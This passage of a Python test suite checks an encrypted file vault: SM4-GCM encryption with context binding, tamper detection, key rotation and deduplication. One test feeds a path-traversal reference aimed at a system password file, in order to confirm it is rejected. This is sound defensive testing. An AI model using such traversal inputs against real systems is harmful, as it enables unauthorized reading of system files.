        block = hmac.new(prk, block + info.encode() + bytes([counter]), "sm3").digest()
        okm += block
        counter += 1
    return okm[:length]


@pytest.fixture
def master_a(settings):
    settings.TONGBAN_MASTER_KEY = KEY_A
    settings.TONGBAN_MASTER_KEYS_OLD = []
    return settings


def test_encrypt_bytes_layout_is_sm4_gcm_under_the_file_key(master_a):
    blob = encrypt_bytes(b"\x00\x01 binary \xff", "ctx")
    key = ref_hkdf_sm3(KEY_A, "file-sm4-v1", 16)
    kid = hashlib.new("sm3", b"tongban-key-id" + key).hexdigest()[:8]
    assert blob[:4] == b"TBE1" and blob[4:12] == kid.encode()
    nonce, body, tag = blob[12:24], blob[24:-16], blob[-16:]
    decryptor = Cipher(algorithms.SM4(key), modes.GCM(nonce, tag)).decryptor()
    decryptor.authenticate_additional_data(blob[:12] + b"ctx")
    assert decryptor.update(body) + decryptor.finalize() == b"\x00\x01 binary \xff"
    assert key != ref_hkdf_sm3(KEY_A, "pii-sm4-v1", 16)  # files do not share the personal-data key


def test_decrypt_bytes_refuses_other_contexts_and_any_altered_byte(master_a):
    blob = encrypt_bytes(b"plaintext", "a")
    assert decrypt_bytes(blob, "a") == b"plaintext"
    with pytest.raises(DecryptionError):
        decrypt_bytes(blob, "b")
    for i in range(len(blob)):
        altered = bytearray(blob)
        altered[i] ^= 0x01
        with pytest.raises(DecryptionError):
            decrypt_bytes(bytes(altered), "a")
    for malformed in (b"", b"TBE1", b"XXXX" + blob[4:], blob[:30]):
        with pytest.raises(DecryptionError):
            decrypt_bytes(malformed, "a")


def test_decrypt_bytes_after_key_rotation(settings):
    settings.TONGBAN_MASTER_KEY, settings.TONGBAN_MASTER_KEYS_OLD = KEY_A, []
    old = encrypt_bytes(b"before", "c")
    settings.TONGBAN_MASTER_KEY, settings.TONGBAN_MASTER_KEYS_OLD = KEY_B, [KEY_A]
    assert decrypt_bytes(old, "c") == b"before"
    assert decrypt_bytes(encrypt_bytes(b"after", "c"), "c") == b"after"
    settings.TONGBAN_MASTER_KEYS_OLD = []
    with pytest.raises(DecryptionError):
        decrypt_bytes(old, "c")


# --- storage -------------------------------------------------------------------------------------


@pytest.fixture
def vault(master_a, tmp_path):
    master_a.VAR_DIR = tmp_path
    return tmp_path / "files"


def test_store_and_load_round_trip(vault):
    data = jpeg()
    stored = store(data, context="cases.material")
    assert stored.size == len(data) and not stored.deduplicated
    path = vault / stored.ref[:2] / f"{stored.ref}.bin"
    assert path.is_file()
    assert load(stored.ref, context="cases.material") == data
    assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temporary file left behind


def test_the_file_on_disk_does_not_contain_the_plaintext(vault):
    secret = "公民身份号码 11010519491231002X 联系电话 13800138000".encode() * 50
    stored = store(secret, context="cases.material")
    on_disk = (vault / stored.ref[:2] / f"{stored.ref}.bin").read_bytes()
    assert secret[:40] not in on_disk and b"11010519491231002X" not in on_disk
    assert crypto.sm3_hex(secret) != stored.ref  # the name is keyed, not a plain hash of the content


def test_equal_content_is_stored_once(vault):
    first = store(b"same scan", context="cases.material")
    second = store(b"same scan", context="cases.material")
    assert second.ref == first.ref and second.deduplicated
    assert len(list(vault.rglob("*.bin"))) == 1
    other = store(b"same scan", context="licences.attachment")
    assert other.ref != first.ref and not other.deduplicated


def test_load_with_the_wrong_context_fails(vault):
    stored = store(b"material", context="cases.material")
    with pytest.raises(DecryptionError):
        load(stored.ref, context="licences.attachment")


def test_tampered_file_fails_to_load(vault):
    stored = store(b"original material", context="cases.material")
    path = vault / stored.ref[:2] / f"{stored.ref}.bin"
    blob = bytearray(path.read_bytes())
    blob[-20] ^= 0x01
    path.write_bytes(bytes(blob))
    with pytest.raises(DecryptionError):
        load(stored.ref, context="cases.material")


def test_a_file_copied_over_another_ones_name_fails_to_load(vault):
    mine = store(b"my ID card", context="cases.material")
    theirs = store(b"their ID card", context="cases.material")
    (vault / theirs.ref[:2] / f"{theirs.ref}.bin").write_bytes(
        (vault / mine.ref[:2] / f"{mine.ref}.bin").read_bytes()
    )
    with pytest.raises(DecryptionError):
        load(theirs.ref, context="cases.material")


def test_storing_again_repairs_a_damaged_copy(vault):
    stored = store(b"scan", context="cases.material")
    path = vault / stored.ref[:2] / f"{stored.ref}.bin"
    path.write_bytes(b"garbage")
    again = store(b"scan", context="cases.material")
    assert again.ref == stored.ref and not again.deduplicated
    assert load(stored.ref, context="cases.material") == b"scan"


@pytest.mark.parametrize("ref", ["0" * 64, "../../etc/passwd", "A" * 64, "", "0" * 63])
def test_unknown_or_malformed_refs_are_not_found(vault, ref):
    with pytest.raises(NotFound):
        load(ref, context="cases.material")


def test_files_stored_before_a_key_rotation_still_load(vault, settings):
    stored = store(b"before rotation", context="cases.material")
    settings.TONGBAN_MASTER_KEY, settings.TONGBAN_MASTER_KEYS_OLD = KEY_B, [KEY_A]
    assert load(stored.ref, context="cases.material") == b"before rotation"
